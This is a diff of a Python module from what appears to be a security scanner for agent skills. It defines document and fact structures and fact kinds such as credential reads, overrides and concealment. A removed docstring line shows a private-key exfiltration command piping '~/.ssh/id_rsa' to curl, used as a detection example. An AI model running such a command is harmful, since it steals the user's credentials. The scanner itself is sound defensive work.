@@ -1,23 +1,74 @@
-"""Facts: what a document does or asks for, before anyone judges it.
+"""Documents and facts: a text to analyse, and the effects that were found in it."""
 
-A fact names its target, the line that shows it and the facts whose values flow into it: `curl -d @- HOST` fed by
-`cat ~/.ssh/id_rsa` is a `send` to HOST with that `read` among its sources. Rules are conjunctions over facts, and the
-power of a skill is their summary.
-"""
-
+from bisect import bisect_right
 from collections import deque
 from collections.abc import Callable, Iterable
 from enum import StrEnum
 
-from msgspec import Struct
+from msgspec import Struct, structs
 
-from clawft.scan.documents import Document
+MAX_DEPTH = 8
 
-__all__ = ["Analysis", "Fact", "Kind", "trace"]
+
+class Document(Struct, frozen=True, eq=False, dict=True):
+    """A text with its language, and the way it was found."""
+
+    path: str  # below the skill folder; "assets/a.zip!run.sh" for a member of an archive
+    text: str
+    language: str  # a key of languages.ANALYSERS; "text" when nothing better is known
+    line: int = 1  # the line of the file on which the text begins
+    flat: bool = False  # all of it stands on that one line (it was decoded from there)
+    origin: tuple[str, ...] = ()  # how it was reached: "fence", "html-comment", "base64", "archive", "exec", …
+    context: str = ""  # for a fence: its heading and the paragraph before it
+    mention: bool = False  # it shows an attack rather than makes one: quoted, negated, "detects …", a test fixture
+    searched: bool = False  # what is encoded in it was found already: so it was for every piece that is cut out of it
+
+    def line_at(self, offset: int) -> int:
+        """The line of the file on which a character stands."""
+        if self.flat:
+            return self.line
+        starts: list[int] | None = self.__dict__.get("starts")
+        if starts is None:
+            starts = [0]
+            find, at = self.text.find, self.text.find("\n")
+            while at >= 0:
+                starts.append(at + 1)
+                at = find("\n", at + 1)
+            self.__dict__["starts"] = starts
+        return self.line + bisect_right(starts, offset) - 1
+
+    def text_of(self, line: int) -> str:
+        """The text of one line of the file, as far as it belongs to this document; all of it when that is one line."""
+        if self.flat:
+            return self.text
+        self.line_at(0)
+        starts: list[int] = self.__dict__["starts"]
+        index = line - self.line
+        if not 0 <= index < len(starts):
+            return ""
+        end = starts[index + 1] - 1 if index + 1 < len(starts) else len(self.text)
+        return self.text[starts[index] : end]
+
+    @property
+    def depth(self) -> int:
+        return len(self.origin)
+
+
+def make_child(parent: Document, text: str, language: str, how: str, offset: int, *, flat: bool = True) -> Document:
+    """A document found in another one at an offset; `flat` unless its lines are lines of the file."""
+    return structs.replace(
+        parent,
+        text=text,
+        language=language,
+        line=parent.line_at(offset),
+        flat=flat or parent.flat,
+        origin=(*parent.origin, how),
+        searched=parent.searched and not flat and parent.text.startswith(text, offset),
+    )
 
 
 class Kind(StrEnum):
-    """What is done. The target of each is in its comment."""
+    """The kinds of facts. The target of each is in its comment."""
 
     READ = "read"  # a path (or "clipboard", "screen", "keychain", "keyboard", "browser", "history", "location")
     ENV = "env"  # the name of a variable; "*" for the whole environment
@@ -42,14 +93,14 @@ class Kind(StrEnum):
     BINARY = "binary"  # the format of a program that cannot be read
     LOCKED = "locked"  # an archive that asks for a password
     # What prose asks of the agent or the reader.
-    OVERRIDE = "override"  # to set aside what it was told before
+    OVERRIDE = "override"  # to set aside its earlier instructions
     CONCEAL = "conceal"  # to keep something from the user
     BYPASS = "bypass"  # to do without a confirmation, a check or a protection
     OBEY = "obey"  # to follow instructions from elsewhere: their address
     TAMPER = "tamper"  # to change the agent's settings, memory or instructions: which
     PREREQUISITE = "prerequisite"  # to get and run something first: what
     SABOTAGE = "sabotage"  # to falsify, weaken or spoil the work: which
-    HARM = "harm"  # to act against the user, hidden, unasked or for a stranger's good: on what
+    HARM = "harm"  # to act against the user, hidden, unasked or for the good of a third party: on what
 
 
 class Fact(Struct, frozen=True, eq=False):
@@ -64,7 +115,7 @@ class Fact(Struct, frozen=True, eq=False):
 
 
 class Analysis(Struct):
-    """What the analysis of one document gives: its facts, and documents found inside it."""
+    """The result of analysing one document: its facts, and documents found inside it."""
 
     facts: list[Fact]
     children: list[Document]
